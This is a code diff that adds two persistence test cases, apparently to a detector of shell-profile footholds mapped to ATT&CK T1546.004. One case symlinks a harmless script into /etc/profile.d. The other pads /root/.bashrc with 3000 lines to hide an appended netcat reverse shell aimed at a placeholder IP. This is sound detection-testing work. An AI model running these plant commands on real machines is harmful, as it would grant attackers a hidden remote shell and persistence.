@@ -122,4 +122,20 @@ export const hooks: readonly Foothold[] = [
     technique: 'T1546',
     about: /hooks\/post-merge/,
   },
+  {
+    name: 'profile.d: a link to a script elsewhere',
+    plant: `mkdir -p /etc/profile.d; printf 'true\\n' >/var/lib/p; ln -s /var/lib/p /etc/profile.d/p.sh`,
+    artifacts: ['shell-profiles', 'unpackaged'],
+    rule: 'shell-profile',
+    technique: 'T1546.004',
+    about: /profile\.d\/p\.sh/,
+  },
+  {
+    name: 'a profile with its end out of sight',
+    plant: `i=0; while [ $i -lt 3000 ]; do echo 'export A=aaaaaaaaaaaaaaaaaaaaaaaaaa'; i=$((i+1)); done >>/root/.bashrc; echo 'nc -e /bin/sh 192.0.2.1 1' >>/root/.bashrc`,
+    artifacts: ['shell-profiles', 'unpackaged'],
+    rule: 'shell-profile',
+    technique: 'T1546.004',
+    about: /\.bashrc runs when a shell starts and is longer/,
+  },
 ];
